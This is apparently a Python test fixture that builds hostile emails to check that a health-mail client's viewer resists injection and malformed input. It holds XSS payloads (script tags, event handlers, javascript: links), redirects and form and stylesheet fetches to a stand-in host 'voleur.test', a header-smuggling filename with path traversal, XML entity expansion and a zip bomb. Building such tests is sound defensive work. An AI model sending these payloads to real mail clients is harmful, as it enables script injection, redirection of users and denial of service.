"""Mails that want the page that shows them to run something, to lie, or to fall over. :data:`MARK` would be set on the
document element by any script that ran."""

from __future__ import annotations

import base64
import io
import zipfile

from simulators.clients.mail.compose import MailPlan, compose, pieces_of
from simulators.clients.mail.variants import rezipped
from simulators.core.mail import attachment
from simulators.core.mail.words import Mailbox
from tests.support.mails import NOW, cda

MARK = "owned"
RUN = f"document.documentElement.dataset.{MARK}='yes';parent.document.documentElement.dataset.{MARK}='yes'"
SCRIPT = f"<script>{RUN}</script>"
EVIL = (
    f'{SCRIPT}<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg></pre></title><style>*{{display:none}}</style>'
    f"<iframe srcdoc=\"{SCRIPT}\"></iframe><meta http-equiv=refresh content='0;url=http://voleur.test/'>"
    f"<form action='http://voleur.test/'><button>x</button></form><a href='javascript:{RUN}'>x</a><base href='http://voleur.test/'>"
)
_HEAD = "From: <evil@main.mssante.test>\r\nTo: <you@main.mssante.test>\r\nMIME-Version: 1.0\r\n"


def _word(text: str) -> str:
    return " ".join(
        f"=?utf-8?b?{base64.b64encode(text[at : at + 15].encode()).decode()}?=" for at in range(0, len(text), 15)
    )


def _subject() -> bytes:
    head = f"From: {_word(EVIL)} <evil@main.mssante.test>\r\nSubject: {_word(EVIL)}\r\nDate: {_word(EVIL)}\r\n"
    return (
        f'{head}Message-ID: <{"x" * 20}"><script>{RUN}</script>@x>\r\nX-MSS-MES: {_word(EVIL)}\r\n\r\n{EVIL}'.encode()
    )


def _html() -> bytes:
    return f"{_HEAD}Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>{EVIL}".encode()


def _charset(name: str, body: bytes) -> bytes:
    subject = f"=?{name}?b?{base64.b64encode(body).decode()}?="
    return f"{_HEAD}Subject: {subject}\r\nContent-Type: text/plain; charset={name}\r\n\r\n".encode() + body


def _file_name() -> bytes:
    name = '..\\..\\a\r\n\u202egpj.\x00exe"; filename="x' + EVIL
    octets = "".join(f"%{o:02X}" for o in name.encode())
    attached = "Content-Disposition: attachment; filename"
    part = f"Content-Type: text/html; name=\"{_word(EVIL)}\"\r\n{attached}*=utf-8''{octets}\r\n\r\n{EVIL}"
    pdf = f'Content-Type: application/pdf\r\n{attached}="x.pdf"\r\n\r\n{EVIL}'
    head = f"{_HEAD}Subject: names\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return f"{head}--b\r\n{part}\r\n--b\r\n{pdf}\r\n--b--\r\n".encode()


def _plan(document: bytes) -> MailPlan:
    box = Mailbox(EVIL.replace("\r\n", ""), "evil@main.mssante.test")
    return MailPlan(box, (Mailbox("", "you@main.mssante.test"),), "<evil@x.test>", NOW, documents=(document,))


def _cda(document: bytes) -> bytes:
    """A good mail whose archive holds this document instead."""
    pieces = pieces_of(_plan(cda()))

    def edit(files: dict[str, bytes]) -> None:
        files["IHE_XDM/SUBSET01/DOC0001.XML"] = document

    archive = attachment(rezipped(pieces.archive, edit), "application/zip", "IHE_XDM.ZIP")
    head = f"{_HEAD}Subject: XDM/1.0/DDM+x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n".encode()
    headers = "".join(f"{name}: {value}\r\n" for name, value in archive.headers).encode()
    return head + headers + b"\r\n" + archive.content + b"\r\n--b--\r\n"


def _narrative() -> bytes:
    """A structured body whose narrative holds HTML of its own."""
    start = cda().index(b"<component>")
    text = (
        f'<paragraph onclick="{RUN}" styleCode="Bold">texte</paragraph>'
        f'<linkHtml href="javascript:{RUN}">lien</linkHtml>'
        f'<script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
        f"{RUN}</h:script><iframe src='http://voleur.test/'/><object data='x'/><style>*{{}}</style>"
        f'<table width="1e9"><tr><td colspan="99999999" rowspan="2">cellule</td></tr></table>'
        f"<content>&lt;script&gt;{RUN}&lt;/script&gt;</content><list listType='ordered'><item>un</item></list>"
    )
    body = (
        "<component><structuredBody><component><section><title>Titre &lt;b&gt;</title>"
        f"<text>{text}</text></section></component></structuredBody></component></ClinicalDocument>"
    )
    return cda()[:start] + body.encode()


def _sheet() -> bytes:
    """A document with a style sheet instruction, and one that is a style sheet itself."""
    at = cda().index(b"<ClinicalDocument")
    return cda()[:at] + b'<?xml-stylesheet type="text/xsl" href="http://voleur.test/x.xsl"?>' + cda()[at:]


def _xsl() -> bytes:
    at = cda().index(b"<ClinicalDocument")
    document = cda()[at:]
    template = f'<xsl:template match="/"><html><script>{RUN}</script></html></xsl:template>'.encode()
    head = b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    return head + template + document + b"</xsl:stylesheet>"


def _entity() -> bytes:
    at = cda().index(b"<ClinicalDocument")
    return cda()[:at] + b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + cda()[at:]


def _parts(count: int) -> bytes:
    piece = "--b\r\nContent-Disposition: attachment; filename=a\r\n\r\nx\r\n"
    return (
        f"{_HEAD}Subject: parts\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{piece * count}--b--\r\n".encode()
    )


def _nested(depth: int) -> bytes:
    made = b"Subject: inside\r\n\r\nx\r\n"
    for _ in range(depth):
        made = b"Subject: outside\r\nContent-Type: message/rfc822\r\n\r\n" + made
    return made


def _bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("IHE_XDM/SUBSET01/METADATA.XML", b"\0" * (30 << 20))
    box = Mailbox("", "evil@main.mssante.test")
    files = (attachment(out.getvalue(), "application/zip", "IHE_XDM.ZIP"),)
    return compose(MailPlan(box, (box,), "<bomb@x.test>", NOW, subject="bombe", files=files))


def _report(kind: str, body: str) -> bytes:
    media = f"multipart/report; report-type={kind.partition('/')[2]}; boundary=b"
    head = f"{_HEAD}Subject: rapport\r\nContent-Type: {media}\r\n\r\n"
    return f"{head}--b\r\n\r\ntexte\r\n--b\r\nContent-Type: {kind}\r\n\r\n{body}\r\n--b--\r\n".encode()


HOSTILE: dict[str, bytes] = {
    "subject": _subject(),
    "html": _html(),
    "utf-7": _charset("utf-7", b"+ADw-script+AD4-" + RUN.encode() + b"+ADw-/script+AD4- +2AA- +AAA-"),
    "escapes": _charset("unicode_escape", b"\\ud800 \\x00 \\ufffe <script>"),
    "file-name": _file_name(),
    "cda-narrative": _cda(_narrative()),
    "cda-sheet": _cda(_sheet()),
    "cda-xsl": _cda(_xsl()),
    "cda-entity": _cda(_entity()),
    "cda-html": _cda(f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>".encode()),
    "cda-damaged": _cda(cda().replace(b'representation="B64">', b'representation="B64">%%%')),
    "parts": _parts(1000),
    "nested": _nested(200),
    "bomb": _bomb(),
    "no-header": EVIL.encode(),
    "empty": b"",
    "octets": bytes(range(256)) * 40,
    "half": _parts(3)[:260],
    "no-boundary": f"{_HEAD}Content-Type: multipart/mixed\r\n\r\n--\r\n".encode(),
    "dsn": _report(
        "message/delivery-status", f"Reporting-MTA: dns; {SCRIPT}\r\n\r\nAction: {SCRIPT}\r\nFinal-Recipient: {SCRIPT}"
    ),
    "dsn-many": _report("message/delivery-status", "Action: failed\r\n\r\n" * 5000),
    "mdn": _report(
        "message/disposition-notification",
        f"Disposition: a/b; {SCRIPT}/Error: {SCRIPT}^{SCRIPT}\r\nFinal-Recipient: {SCRIPT}",
    ),
    "receipt": f"{_HEAD}Subject: x\r\nDisposition-Notification-To: <a@b.c>, {SCRIPT}\r\n\r\n{EVIL}".encode(),
}
